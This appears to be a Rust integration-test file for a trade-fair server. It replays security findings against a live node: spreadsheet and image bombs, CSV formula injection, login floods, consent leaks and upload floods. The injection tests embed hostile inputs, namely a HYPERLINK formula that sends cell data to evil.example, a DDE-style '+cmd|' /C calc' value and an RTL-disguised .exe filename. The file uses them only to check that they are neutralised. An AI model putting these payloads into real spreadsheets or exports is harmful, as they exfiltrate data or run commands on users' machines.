//! The attacks of issue 16, each reproduced against a real node: hostile spreadsheets, formula
//! injection in exports, consent bypasses and lookups by id, sign-in floods, attachment floods
//! and the smaller findings. After every attack the node must still serve a normal client and
//! the records must be intact.

use crate::booths::company_with_staff;
use crate::both_engines;
use crate::helpers::*;
use expo_client::{Api, Hub, Incoming};
use expo_schema::api::*;
use expo_schema::protocol::{Command, ReplyData, RoomEvent, ServerFrame};
use expo_schema::{ChatRoomInfo, ErrorCode};
use expo_server::booths::import::{MAX_CSV_LINE_BYTES, MAX_SHEET_COLUMNS, MAX_SHEET_ROWS};
use serde_json::json;
use std::time::Duration;

/// A raw HTTP client for what `Api` hides (status codes, headers).
fn http() -> reqwest::Client {
    reqwest::Client::new()
}

/// The node still answers a normal client: the organizer signs in and lists halls.
async fn still_serves(app: &TestApp) {
    let admin = app.admin().await;
    admin.halls().await.expect("the node still serves");
}

/// An XLSX workbook with the given cells (0-based row, column, text).
fn xlsx(cells: &[(u32, u16, &str)]) -> Vec<u8> {
    let mut book = rust_xlsxwriter::Workbook::new();
    let sheet = book.add_worksheet();
    for (row, col, text) in cells {
        sheet.write_string(*row, *col, *text).unwrap();
    }
    book.save_to_buffer().unwrap()
}

/// A dry-run import of halls: the status and the report.
async fn dry_run(app: &TestApp, admin: &expo_client::Api, body: Vec<u8>) -> (u16, ImportReport) {
    let response = http()
        .post(format!("{}/api/v1/import/halls?dry_run=true", app.base))
        .bearer_auth(admin.token().unwrap())
        .body(body)
        .send()
        .await
        .unwrap();
    let status = response.status().as_u16();
    (status, response.json().await.unwrap())
}

/// A dry run of `body` that is refused (422) with `code` as its first finding: the report.
async fn refused_with(app: &TestApp, admin: &Api, body: Vec<u8>, code: &str) -> ImportReport {
    let (status, report) = dry_run(app, admin, body).await;
    assert_eq!(status, 422);
    assert_eq!(report.errors[0].code.as_deref(), Some(code));
    report
}

async fn spreadsheet_bombs_are_refused(engines: Engines) {
    let env = TestEnv::new(engines).await;
    let app = env.start().await;
    let admin = app.admin().await;
    // Finding 1: the cells A1 and XFD1048576 once made the reader allocate 512 GiB.
    let bomb = xlsx(&[(0, 0, "slug"), (1_048_575, 16_383, "x")]);
    assert!(bomb.len() < 10_000, "the attack file is small");
    let report = refused_with(&app, &admin, bomb, "import.too_many_rows").await;
    assert!(
        report.errors[0].message.contains("at most"),
        "the limit is named: {report:?}"
    );
    assert_eq!(report.errors[0].params["max"], MAX_SHEET_ROWS.to_string());
    // A sheet that is wide rather than tall, and a CSV with too many columns or a huge line.
    let wide = xlsx(&[(0, 0, "slug"), (1, 5_000, "x")]);
    refused_with(&app, &admin, wide, "import.too_many_columns").await;
    let many_columns = format!("slug{}\n", ",x".repeat(1000));
    let report = refused_with(
        &app,
        &admin,
        many_columns.into_bytes(),
        "import.too_many_columns",
    )
    .await;
    assert!(report.errors[0].message.contains("columns"), "{report:?}");
    assert_eq!(
        report.errors[0].params["max"],
        MAX_SHEET_COLUMNS.to_string()
    );
    let long_line = format!("slug,name\nfood,{}\n", "a".repeat(100 * 1024));
    let report = refused_with(&app, &admin, long_line.into_bytes(), "import.line_too_long").await;
    assert!(report.errors[0].message.contains("KiB"), "{report:?}");
    assert_eq!(
        report.errors[0].params["kib"],
        (MAX_CSV_LINE_BYTES >> 10).to_string()
    );
    // A normal import still works afterwards.
    let good = xlsx(&[
        (0, 0, "slug"),
        (0, 1, "name"),
        (0, 2, "industry"),
        (1, 0, "food"),
        (1, 1, "Hall A"),
        (1, 2, "food"),
    ]);
    let report = admin.import("halls", false, good).await.unwrap();
    assert_eq!(report.created, 1, "{report:?}");
    still_serves(&app).await;
    app.stop().await;
}

/// Reads a CSV export into rows of cells.
fn csv_rows(bytes: &[u8]) -> Vec<Vec<String>> {
    let text = String::from_utf8(bytes.to_vec()).unwrap();
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    reader
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")";

async fn csv_exports_carry_no_formulas(engines: Engines) {
    let env = TestEnv::new(engines).await;
    let app = env.start().await;
    let admin = app.admin().await;
    let (company, staff) = company_with_staff(&app, &admin, "101-81-16002", "s@csv.example").await;
    // Finding 2a: a buyer whose name is a formula visits the booth.
    app.api
        .register(&RegisterBuyerRequest {
            share_contact: true,
            ..registration(
                "evil@csv.example",
                "evil-password",
                FORMULA,
                "@SUM(1+1)",
                "RU",
                "Asia/Vladivostok",
            )
        })
        .await
        .unwrap();
    app.approve("evil@csv.example").await;
    let (evil, _) = app
        .api
        .login("evil@csv.example", "evil-password")
        .await
        .unwrap();
    let hub = evil.connect().await.unwrap();
    hub.subscribe(&format!("booth:{}", company.id))
        .await
        .unwrap();
    hub.close();
    eventually(Duration::from_secs(5), "the visit is recorded", || async {
        let r = staff.leads(company.id).await.unwrap();
        r.leads.len() == 1
    })
    .await;
    let rows = csv_rows(staff.leads_csv(company.id).await.unwrap().as_bytes());
    let lead = &rows[1];
    assert_eq!(lead[0], format!("'{FORMULA}"), "the name is text: {lead:?}");
    assert_eq!(lead[2], "'@SUM(1+1)");
    for row in &rows {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '@']),
                "a formula in the leads CSV: {cell}"
            );
        }
    }
    // Finding 2b: plain staff rename their company to a formula; the organizers' export.
    let input = CompanyInput {
        hall_id: company.hall_id,
        tags: vec![],
        ..company_input("101-81-16002", "+cmd|' /C calc'!A0", "KR")
    };
    staff
        .update_company(company.id, None, &input)
        .await
        .unwrap();
    let rows = csv_rows(
        admin
            .report_csv("booths.csv", &expo_client::api::RangeQuery::default())
            .await
            .unwrap()
            .as_bytes(),
    );
    let names: Vec<&String> = rows
        .iter()
        .flatten()
        .filter(|c| c.contains("cmd|"))
        .collect();
    assert!(!names.is_empty(), "the renamed booth is in the report");
    for name in names {
        assert!(name.starts_with('\''), "the booth name is text: {name}");
    }
    still_serves(&app).await;
    app.stop().await;
}

async fn sign_in_is_throttled(engines: Engines) {
    let env = TestEnv::new(engines).await;
    let app = env.start_with(|c| c.login_window_secs = 3).await;
    let _victim = app.buyer("victim@throttle.example").await;
    // Finding 4: 25 wrong passwords in a row, then the right one.
    let mut codes = Vec::new();
    for _ in 0..25 {
        let error = app
            .api
            .login("victim@throttle.example", "wrong-password")
            .await
            .unwrap_err();
        codes.push(error.code());
    }
    let wrong = codes
        .iter()
        .filter(|c| **c == Some(ErrorCode::InvalidCredentials))
        .count();
    assert_eq!(wrong, 5, "five failures are heard: {codes:?}");
    assert!(codes[5..]
        .iter()
        .all(|c| *c == Some(ErrorCode::RateLimited)));
    let locked = app
        .api
        .login("victim@throttle.example", "buyer-password")
        .await
        .unwrap_err();
    assert_eq!(locked.code(), Some(ErrorCode::RateLimited));
    // Unknown emails are throttled alike (they too cost a hash when heard).
    for _ in 0..5 {
        let _ = app.api.login("nobody@throttle.example", "x-password").await;
    }
    let unknown = app
        .api
        .login("nobody@throttle.example", "x-password")
        .await
        .unwrap_err();
    assert_eq!(unknown.code(), Some(ErrorCode::RateLimited));
    // Other accounts are not locked, and once the window passes the right password works.
    still_serves(&app).await;
    tokio::time::sleep(Duration::from_millis(3_100)).await;
    app.api
        .login("victim@throttle.example", "buyer-password")
        .await
        .expect("the lock ends with the window");
    app.stop().await;
}

async fn sign_in_is_throttled_per_address(engines: Engines) {
    let env = TestEnv::new(engines).await;
    let app = env
        .start_with(|c| {
            c.login_max_failures_per_address = 8;
        })
        .await;
    // Many accounts, each under its own limit, from one address.
    let mut codes = Vec::new();
    for i in 0..10 {
        let error = app
            .api
            .login(&format!("spray{i}@throttle.example"), "spray-password")
            .await
            .unwrap_err();
        codes.push(error.code());
    }
    assert!(codes[..8]
        .iter()
        .all(|c| *c == Some(ErrorCode::InvalidCredentials)));
    assert!(codes[8..]
        .iter()
        .all(|c| *c == Some(ErrorCode::RateLimited)));
    // The failures are stored, so a second node sharing the database refuses too.
    let other = env
        .start_with(|c| c.login_max_failures_per_address = 8)
        .await;
    let error = other
        .api
        .login("another@throttle.example", "spray-password")
        .await
        .unwrap_err();
    assert_eq!(error.code(), Some(ErrorCode::RateLimited));
    other.stop().await;
    app.stop().await;
}

async fn weak_passwords_and_account_probes(engines: Engines) {
    let env = TestEnv::new(engines).await;
    let app = env.start().await;
    let register = |email: &str, password: &str| {
        registration(
            email,
            password,
            "Probe",
            "Probe Co",
            "RU",
            "Asia/Vladivostok",
        )
    };
    for weak in ["12345678", "password1", "aaaaaaaaaa", "qwertyuiop"] {
        let error = app
            .api
            .register(&register("weak@probe.example", weak))
            .await
            .unwrap_err();
        assert_eq!(error.code(), Some(ErrorCode::Validation), "{weak}");
    }
    // Registration answers the same for a new email and for one with an account.
    let first = app
        .api
        .register(&register("taken@probe.example", "strong-pass-1"))
        .await
        .unwrap();
    let response = http()
        .post(format!("{}/api/v1/auth/register", app.base))
        .json(&register("taken@probe.example", "strong-pass-2"))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 202);
    let again: RegistrationReceived = response.json().await.unwrap();
    assert_eq!(again, first);
    let organizer = http()
        .post(format!("{}/api/v1/auth/register", app.base))
        .json(&register(ADMIN_EMAIL, "strong-pass-3"))
        .send()
        .await
        .unwrap();
    assert_eq!(organizer.status(), 202, "no hint that the organizer exists");
    // The first registration's password stands.
    app.approve("taken@probe.example").await;
    app.api
        .login("taken@probe.example", "strong-pass-1")
        .await
        .unwrap();
    app.stop().await;
}

/// Registers and approves a buyer with the given consent; signs them in.
async fn buyer_with_consent(app: &TestApp, email: &str, name: &str, share: bool) -> Api {
    app.api
        .register(&RegisterBuyerRequest {
            share_contact: share,
            ..registration(
                email,
                "buyer-password",
                name,
                "Quiet Trading",
                "MN",
                "Asia/Ulaanbaatar",
            )
        })
        .await
        .unwrap();
    app.approve(email).await;
    app.api.login(email, "buyer-password").await.unwrap().0
}

async fn open_chat(hub: &Hub, target: &str) -> Result<ChatRoomInfo, expo_client::ClientError> {
    match hub
        .request(Command::ChatOpen {
            target: target.into(),
        })
        .await?
    {
        ReplyData::ChatRoom { room } => Ok(room),
        other => panic!("unexpected {other:?}"),
    }
}

/// Connects `who` to the hub and joins the booth's public chat: the hub and the room.
async fn in_booth_chat(who: &Api, company: i64) -> (Hub, ChatRoomInfo) {
    let hub = who.connect().await.unwrap();
    let room = open_chat(&hub, &format!("booth:{company}")).await.unwrap();
    hub.request(Command::ChatJoin {
        room_id: room.id,
        after_seq: 0,
    })
    .await
    .unwrap();
    (hub, room)
}

/// Sends a plain text message (no attachment, no phrase) to a chat room.
async fn say(
    hub: &Hub,
    room_id: i64,
    body: String,
    key: String,
) -> Result<ReplyData, expo_client::ClientError> {
    hub.request(Command::ChatSend {
        room_id,
        body,
        key,
        attachment_id: None,
        phrase: None,
    })
    .await
}

/// A path or query parameter that does not parse gets a typed error (`bad_request`, JSON),
/// not the framework's plain text; the published document lists the shared refusals on
/// every operation where they can happen.
async fn malformed_addresses_get_typed_errors(engines: Engines) {
    let env = TestEnv::new(engines).await;
    let app = env.start().await;
    let admin = app.admin().await;
    for path in [
        "/api/v1/meetings/abc",
        "/api/v1/companies/1.5/leads",
        "/api/v1/match/suggestions?buyer_id=abc",
        "/api/v1/booths?hall_id=x",
    ] {
        let error = admin
            .get::<serde_json::Value>(path)
            .await
            .expect_err("refused");
        assert_eq!(
            error.code(),
            Some(ErrorCode::BadRequest),
            "{path}: {error:?}"
        );
    }
    let doc: serde_json::Value = app.api.get("/api/v1/openapi.json").await.unwrap();
    let paths = doc["paths"].as_object().unwrap();
    let mut missing = Vec::new();
    for (path, item) in paths {
        for (method, op) in item.as_object().unwrap() {
            let responses = &op["responses"];
            let public = matches!(
                (method.as_str(), path.as_str()),
                ("post", "/api/v1/auth/login")
                    | ("post", "/api/v1/auth/register")
                    | ("post", "/api/v1/invitations/accept")
                    | ("get", "/api/v1/fair")
                    | ("get", "/api/v1/calendar/{file}")
                    // The media server's callbacks carry a shared secret, not a session.
                    | ("post", "/api/v1/stage/rtmp/publish")
                    | ("post", "/api/v1/stage/rtmp/publish-done")
                    | ("post", "/api/v1/stage/rtmp/record-done")
                    | ("get", "/healthz")
                    | ("get", "/readyz")
            );
            if !public && !responses["401"].is_object() {
                missing.push(format!("{method} {path}: 401"));
            }
            if path.contains('{') && !(responses["400"].is_object() && responses["404"].is_object())
            {
                missing.push(format!("{method} {path}: 400/404"));
            }
            if op["requestBody"].is_object() && !responses["422"].is_object() {
                missing.push(format!("{method} {path}: 422"));
            }
        }
    }
    assert!(missing.is_empty(), "{missing:#?}");
    // An unsigned request to a signed-in route is refused as the document says.
    let anonymous = app.api.meetings().await.unwrap_err();
    assert_eq!(anonymous.code(), Some(ErrorCode::Unauthorized));
    still_serves(&app).await;
    app.stop().await;
}

async fn presence_names_only_consenting_buyers(engines: Engines) {
    let env = TestEnv::new(engines).await;
    let app = env.start().await;
    let admin = app.admin().await;
    let (company, staff) =
        company_with_staff(&app, &admin, "101-81-16003", "s@consent.example").await;
    let room = format!("booth:{}", company.id);
    let mut watcher = staff.connect().await.unwrap();
    watcher.subscribe(&room).await.unwrap();
    let quiet = buyer_with_consent(&app, "quiet@consent.example", "Quiet Person", false).await;
    let open = buyer_with_consent(&app, "open@consent.example", "Open Person", true).await;
    let quiet_hub = quiet.connect().await.unwrap();
    quiet_hub.subscribe(&room).await.unwrap();
    let open_hub = open.connect().await.unwrap();
    open_hub.subscribe(&room).await.unwrap();
    // Finding 3a: `presence` on the booth named the buyer who did not consent.
    let members = watcher.presence(&room).await.unwrap();
    let names: Vec<&str> = members.iter().map(|m| m.user.name.as_str()).collect();
    assert!(names.contains(&"Open Person"), "{names:?}");
    assert!(!names.contains(&"Quiet Person"), "{names:?}");
    assert!(members
        .iter()
        .all(|m| m.user.company_name.as_deref() != Some("Quiet Trading")
            || m.user.name == "Open Person"));
    // Nor does the live join event name them.
    let mut joins = Vec::new();
    while let Some(item) = watcher.next(Duration::from_millis(500)).await {
        if let Incoming::Frame(ServerFrame::Event { event, .. }) = item {
            joins.extend(event.joined().iter().map(|member| member.user.name.clone()));
        }
    }
    assert!(joins.contains(&"Open Person".to_string()), "{joins:?}");
    assert!(!joins.contains(&"Quiet Person".to_string()), "{joins:?}");
    still_serves(&app).await;
    app.stop().await;
}

async fn no_account_lookups_by_id(engines: Engines) {
    let env = TestEnv::new(engines).await;
    let app = env.start().await;
    let admin = app.admin().await;
    let (company, staff) =
        company_with_staff(&app, &admin, "101-81-16004", "s@lookup.example").await;
    let (other_company, other_staff) =
        company_with_staff(&app, &admin, "101-81-16005", "o@lookup.example").await;
    let buyer = buyer_with_consent(&app, "b@lookup.example", "Seen Buyer", true).await;
    let stranger = buyer_with_consent(&app, "x@lookup.example", "Stranger", true).await;
    app.api
        .register(&registration(
            "pending@lookup.example",
            "pending-pass",
            "Pending Person",
            "Waiting LLC",
            "RU",
            "Asia/Vladivostok",
        ))
        .await
        .unwrap();
    let pending_id = app.user_id("pending@lookup.example").await;
    let stranger_id = app.user_id("x@lookup.example").await;
    let buyer_id = app.user_id("b@lookup.example").await;
    // Finding 3b: block, then read the block list, to get any account's summary.
    for id in [pending_id, stranger_id] {
        let error = buyer.block(&BlockInput { user_id: id }).await.unwrap_err();
        assert_eq!(error.code(), Some(ErrorCode::NotFound));
    }
    let list = buyer.blocks().await.unwrap();
    assert!(list.users.is_empty(), "{:?}", list.users);
    // Someone who wrote in a booth room can be blocked (and is listed).
    let booth_room = {
        let (hub, room) = in_booth_chat(&stranger, company.id).await;
        say(&hub, room.id, "hello booth".into(), "k1".into())
            .await
            .unwrap();
        room
    };
    assert!(booth_room.id > 0);
    buyer
        .block(&BlockInput {
            user_id: stranger_id,
        })
        .await
        .unwrap();
    let list = buyer.blocks().await.unwrap();
    assert_eq!(list.users[0].name, "Stranger");
    // Finding 3c: staff open private:{own}:{any buyer} to read summaries and make rows.
    let staff_hub = other_staff.connect().await.unwrap();
    for id in [buyer_id, pending_id] {
        let error = open_chat(&staff_hub, &format!("private:{}:{id}", other_company.id))
            .await
            .unwrap_err();
        assert_eq!(error.code(), Some(ErrorCode::UnknownRoom), "{id}");
    }
    // A buyer who visited a booth, consenting to share contact, may be written to.
    let visit = buyer.connect().await.unwrap();
    visit
        .subscribe(&format!("booth:{}", company.id))
        .await
        .unwrap();
    let own_hub = staff.connect().await.unwrap();
    eventually(
        Duration::from_secs(5),
        "the visit opens a conversation",
        || {
            let own_hub = &own_hub;
            let target = format!("private:{}:{buyer_id}", company.id);
            async move { open_chat(own_hub, &target).await.is_ok() }
        },
    )
    .await;
    still_serves(&app).await;
    app.stop().await;
}

/// Uploads a file to a chat room: the status and the JSON answer.
async fn attach(
    app: &TestApp,
    who: &Api,
    room: i64,
    name: &str,
    body: Vec<u8>,
) -> (u16, serde_json::Value) {
    post_bytes(
        app,
        who,
        &format!("/api/v1/chat/rooms/{room}/attachments?file_name={name}"),
        body,
    )
    .await
}

/// Posts raw bytes to `path` (below the server's address) as `who`: the status and the JSON answer.
async fn post_bytes(
    app: &TestApp,
    who: &Api,
    path: &str,
    body: Vec<u8>,
) -> (u16, serde_json::Value) {
    let response = http()
        .post(format!("{}{path}", app.base))
        .bearer_auth(who.token().unwrap())
        .body(body)
        .send()
        .await
        .unwrap();
    let status = response.status().as_u16();
    (status, response.json().await.unwrap_or_default())
}

async fn attachments_cannot_fill_the_disk(engines: Engines) {
    let env = TestEnv::new(engines).await;
    let app = env
        .start_with(|c| {
            c.chat_attachment_bytes = 4_000;
            c.uploads_per_day = 3;
            c.upload_quota_bytes = 1_000_000;
            c.unsent_attachment_secs = 0;
        })
        .await;
    let admin = app.admin().await;
    let (company, _staff) =
        company_with_staff(&app, &admin, "101-81-16006", "s@disk.example").await;
    let buyer = app.buyer("filler@disk.example").await;
    let (hub, room) = in_booth_chat(&buyer, company.id).await;
    let pdf = crate::booths::pdf_bytes(200);
    // Finding 5: one file beyond the attachment limit (not the 100 MiB upload limit).
    let (status, body) = attach(
        &app,
        &buyer,
        room.id,
        "big.pdf",
        crate::booths::pdf_bytes(8_000),
    )
    .await;
    assert_eq!(status, 413, "{body}");
    // A right-to-left override in the name (U+202E: `invoice_fdp.exe` shown as `invoice_exe.pdf`).
    let (status, _) = attach(
        &app,
        &buyer,
        room.id,
        "invoice%E2%80%AEfdp.exe",
        pdf.clone(),
    )
    .await;
    assert_eq!(status, 422);
    // Three a day; the fourth is refused.
    let (status, sent) = attach(&app, &buyer, room.id, "a.pdf", pdf.clone()).await;
    assert_eq!(status, 201);
    let (status, unsent) = attach(&app, &buyer, room.id, "b.pdf", pdf.clone()).await;
    assert_eq!(status, 201);
    let (status, _) = attach(&app, &buyer, room.id, "c.pdf", pdf.clone()).await;
    assert_eq!(status, 201);
    let (status, body) = attach(&app, &buyer, room.id, "d.pdf", pdf.clone()).await;
    assert_eq!(status, 429, "{body}");
    assert_eq!(body["code"], "rate_limited");
    // One of them is sent; the unsent ones are swept, files included.
    hub.request(Command::ChatSend {
        room_id: room.id,
        body: "the spec".into(),
        key: "spec".into(),
        attachment_id: sent["id"].as_i64(),
        phrase: None,
    })
    .await
    .unwrap();
    let files = || {
        std::fs::read_dir(env.data_dir.join("uploads"))
            .unwrap()
            .count()
    };
    assert_eq!(files(), 3);
    let removed = expo_server::chat::routes::sweep_unsent_attachments(&app.state)
        .await
        .unwrap();
    assert_eq!(removed, 2);
    assert_eq!(files(), 1);
    buyer
        .get_bytes(&format!("/api/v1/chat/attachments/{}", sent["id"]))
        .await
        .expect("the sent attachment stays");
    let gone = buyer
        .get_bytes(&format!("/api/v1/chat/attachments/{}", unsent["id"]))
        .await
        .unwrap_err();
    assert_eq!(gone.code(), Some(ErrorCode::NotFound));
    still_serves(&app).await;
    app.stop().await;
}

async fn image_bombs_are_refused(engines: Engines) {
    let env = TestEnv::new(engines).await;
    let app = env.start().await;
    let admin = app.admin().await;
    let (company, staff) = company_with_staff(&app, &admin, "101-81-16007", "s@img.example").await;
    let png = |w: u32, h: u32| {
        let mut png = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR".to_vec();
        png.extend_from_slice(&w.to_be_bytes());
        png.extend_from_slice(&h.to_be_bytes());
        png.extend_from_slice(&[8, 6, 0, 0, 0]);
        png
    };
    let upload = |bytes: Vec<u8>| {
        let staff = staff.clone();
        let logo = expo_client::api::UploadQuery {
            kind: "logo".into(),
            title: None,
            file_name: "logo.png".into(),
            product_id: None,
        };
        async move { staff.upload_media(company.id, &logo, bytes).await }
    };
    let error = upload(png(60_000, 60_000)).await.unwrap_err();
    let expo_client::ClientError::Server(body) = error else {
        panic!("a typed refusal, not {error:?}");
    };
    assert_eq!(body.code, ErrorCode::Validation);
    assert!(body.message.contains("pixels"), "{}", body.message);
    upload(png(640, 480)).await.expect("a normal photo");
    still_serves(&app).await;
    app.stop().await;
}

/// Signs in as a demo account.
async fn demo_login(app: &TestApp, email: &str) -> (Api, LoginResponse) {
    app.api.login(email, DEMO_PASSWORD).await.unwrap()
}

async fn meeting_outcomes_stay_with_the_company(engines: Engines) {
    let env = TestEnv::new(engines).await;
    let app = env.start_with(|c| c.demo = true).await;
    let (staff, _) = demo_login(&app, "exhibitor@demo.expo").await;
    let list = staff.meetings().await.unwrap();
    let held = list
        .meetings
        .iter()
        .find(|m| m.outcome.is_some())
        .expect("the demo has meetings with outcomes")
        .clone();
    let users = app
        .admin()
        .await
        .users(&expo_client::api::UserFilter::default())
        .await
        .unwrap();
    let email_of = |id: i64| {
        users
            .users
            .iter()
            .find(|u| u.id == id)
            .unwrap()
            .email
            .clone()
    };
    let (buyer, buyer_me) = demo_login(&app, &email_of(held.buyer.id)).await;
    // Finding 6: the buyer (and an interpreter) were sent the rating, notes and amounts.
    let seen = buyer.meeting(held.id).await.unwrap();
    assert!(seen.outcome.is_none(), "the buyer sees no outcome");
    let mine = buyer.meetings().await.unwrap();
    assert!(mine.meetings.iter().all(|m| m.outcome.is_none()));
    if let Some(interpreter) = &held.interpreter {
        let (i, _) = demo_login(&app, &email_of(interpreter.id)).await;
        let seen = i.meeting(held.id).await.unwrap();
        assert!(seen.outcome.is_none(), "the interpreter sees no outcome");
    }
    // Live: the company updates the outcome; the buyer's notice carries none.
    let mut buyer_hub = buyer.connect().await.unwrap();
    buyer_hub
        .subscribe(&format!("user:{}", buyer_me.user.id))
        .await
        .unwrap();
    let outcome = expo_schema::MeetingOutcome {
        consult_usd: 1000,
        contract_usd: 990000,
        mou_signed: true,
        samples_requested: false,
        notes: Some("secret margin notes".into()),
        rating: Some(2),
    };
    let updated = staff.set_outcome(held.id, &outcome).await.unwrap();
    assert_eq!(
        updated.outcome.unwrap().contract_usd,
        990000,
        "staff see it"
    );
    let told = buyer_hub
        .wait_for(Duration::from_secs(5), |i| {
            matches!(i, Incoming::Frame(ServerFrame::Event { event: RoomEvent::MeetingUpdated { meeting }, .. }) if meeting.id == held.id)
        })
        .await
        .expect("the buyer hears of the change");
    let Incoming::Frame(ServerFrame::Event {
        event: RoomEvent::MeetingUpdated { meeting },
        ..
    }) = told
    else {
        unreachable!()
    };
    assert!(
        meeting.outcome.is_none(),
        "no outcome in the buyer's notice"
    );
    app.stop().await;
}

async fn smaller_findings(engines: Engines) {
    let env = TestEnv::new(engines).await;
    let app = env.start().await;
    let admin = app.admin().await;
    let (company, staff) =
        company_with_staff(&app, &admin, "101-81-16008", "s@small.example").await;
    let buyer = app.buyer("small@small.example").await;
    let hub = buyer.connect().await.unwrap();
    // `booth:01` and `booth:1` were two rooms for one booth (parallel visits).
    let padded = format!("booth:0{}", company.id);
    let error = hub.subscribe(&padded).await.unwrap_err();
    assert_eq!(error.code(), Some(ErrorCode::UnknownRoom));
    let plus = format!("booth:+{}", company.id);
    assert_eq!(
        hub.subscribe(&plus).await.unwrap_err().code(),
        Some(ErrorCode::UnknownRoom)
    );
    hub.subscribe(&format!("booth:{}", company.id))
        .await
        .unwrap();
    // `unsubscribe "~online"` took a connected buyer out of the organizers' figures.
    let online = || async {
        let now = admin.dashboard().await.unwrap();
        now.online_by_role.get("buyer").copied().unwrap_or(0)
    };
    eventually(
        Duration::from_secs(5),
        "the buyer counts online",
        || async { online().await == 1 },
    )
    .await;
    let error = hub.unsubscribe("~online").await.unwrap_err();
    assert_eq!(error.code(), Some(ErrorCode::NotSubscribed));
    assert_eq!(online().await, 1, "still online");
    // With nobody on duty, every `talk_request` added a missed row.
    for _ in 0..10 {
        hub.request(Command::TalkRequest {
            company_id: company.id,
        })
        .await
        .unwrap();
    }
    let missed = staff
        .talk_requests(company.id, Some("missed"))
        .await
        .unwrap();
    assert_eq!(missed.requests.len(), 1, "{:?}", missed.requests);
    still_serves(&app).await;
    app.stop().await;
}

async fn nul_characters_and_big_bodies(engines: Engines) {
    let env = TestEnv::new(engines).await;
    let app = env.start().await;
    let admin = app.admin().await;
    let (company, _staff) = company_with_staff(&app, &admin, "101-81-16009", "s@nul.example").await;
    // On Postgres a NUL in any text gave a 500, an anonymous login's email too.
    let response = http()
        .post(format!("{}/api/v1/auth/login", app.base))
        .json(&json!({"email": "a\u{0}b@nul.example", "password": "whatever-pass"}))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 422);
    let response = http()
        .post(format!("{}/api/v1/auth/register", app.base))
        .json(
            &json!({"email": "n@nul.example", "password": "strong-pass-1", "name": "N\u{0}",
            "company_name": "Nul Co", "country": "RU", "timezone": "Asia/Vladivostok"}),
        )
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 422);
    let response = http()
        .get(format!("{}/api/v1/booths?q=a%00b", app.base))
        .bearer_auth(admin.token().unwrap())
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 400);
    let buyer = app.buyer("nul@nul.example").await;
    let (hub, room) = in_booth_chat(&buyer, company.id).await;
    let error = say(&hub, room.id, "a\u{0}b".into(), "nul".into())
        .await
        .unwrap_err();
    assert_eq!(error.code(), Some(ErrorCode::Validation));
    // A 2 MiB+ JSON body answered 400 instead of 413.
    let big = json!({"email": "x@nul.example", "password": "p".repeat(3 * 1024 * 1024)});
    let response = http()
        .post(format!("{}/api/v1/auth/login", app.base))
        .json(&big)
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 413);
    // The node and its records are fine: the chat room still takes a normal message.
    say(&hub, room.id, "normal".into(), "ok".into())
        .await
        .unwrap();
    still_serves(&app).await;
    app.stop().await;
}

async fn connections_are_limited(engines: Engines) {
    let env = TestEnv::new(engines).await;
    let app = env
        .start_with(|c| {
            c.max_conns_per_user = 2;
            c.max_conns_per_address = 4;
        })
        .await;
    let one = app.buyer("one@conns.example").await;
    let two = app.buyer("two@conns.example").await;
    let a = one.connect().await.unwrap();
    let _b = one.connect().await.unwrap();
    let Err(error) = one.connect().await else {
        panic!("a third connection of one user is refused");
    };
    assert_eq!(error.code(), Some(ErrorCode::RateLimited), "per user");
    let _c = two.connect().await.unwrap();
    let _d = two.connect().await.unwrap();
    let admin = app.admin().await;
    let Err(error) = admin.connect().await else {
        panic!("a fifth connection from one address is refused");
    };
    assert_eq!(error.code(), Some(ErrorCode::RateLimited), "per address");
    // A closed connection gives its place back.
    a.close();
    eventually(Duration::from_secs(5), "a place is free again", || async {
        one.connect().await.is_ok()
    })
    .await;
    app.stop().await;
}

async fn pages_are_capped(engines: Engines) {
    let env = TestEnv::new(engines).await;
    let app = env
        .start_with(|c| {
            c.chat_rate_per_sec = 1000;
            c.rate_per_sec = 1000;
            c.rate_burst = 1000;
            c.user_rate_per_sec = 1000;
            c.user_rate_burst = 1000;
        })
        .await;
    let admin = app.admin().await;
    let (company, _staff) =
        company_with_staff(&app, &admin, "101-81-16010", "s@page.example").await;
    let page = admin
        .search_booths(&expo_client::api::BoothQuery {
            per_page: Some(100_000),
            ..Default::default()
        })
        .await
        .unwrap();
    assert_eq!(page.per_page, 100, "search pages hold at most 100 booths");
    let buyer = app.buyer("pager@page.example").await;
    let (hub, room) = in_booth_chat(&buyer, company.id).await;
    for i in 0..210 {
        say(&hub, room.id, format!("message {i}"), format!("m{i}"))
            .await
            .unwrap();
    }
    let ReplyData::ChatHistory { messages, .. } = hub
        .request(Command::ChatHistory {
            room_id: room.id,
            before_seq: None,
            limit: Some(100_000),
        })
        .await
        .unwrap()
    else {
        panic!("a chat_history reply")
    };
    assert_eq!(
        messages.len(),
        200,
        "history pages hold at most 200 messages"
    );
    app.stop().await;
}

/// Posts booth media as `who`: the status and the body.
async fn upload_media(
    app: &TestApp,
    who: &Api,
    company: i64,
    name: &str,
    body: Vec<u8>,
) -> (u16, serde_json::Value) {
    post_bytes(
        app,
        who,
        &format!("/api/v1/companies/{company}/media?kind=brochure&file_name={name}"),
        body,
    )
    .await
}

async fn booth_media_has_a_daily_quota(engines: Engines) {
    let env = TestEnv::new(engines).await;
    let app = env
        .start_with(|c| {
            c.media_uploads_per_day = 3;
            c.media_quota_bytes = 5_000;
        })
        .await;
    let admin = app.admin().await;
    let (company, staff) =
        company_with_staff(&app, &admin, "101-81-16020", "s@quota.example").await;
    let pdf = |size: usize| {
        let base = crate::booths::pdf_bytes(0).len();
        crate::booths::pdf_bytes(size - base)
    };
    let (status, first) = upload_media(&app, &staff, company.id, "a.pdf", pdf(2_000)).await;
    assert_eq!(status, 201, "{first}");
    let (status, body) = upload_media(&app, &staff, company.id, "b.pdf", pdf(2_000)).await;
    assert_eq!(status, 201, "{body}");
    // Deleting a file does not give its share of the quota back.
    staff
        .delete(&format!("/api/v1/media/{}", first["id"]))
        .await
        .unwrap();
    // 1,000 bytes are left today: a bigger file is refused whole, and stores nothing.
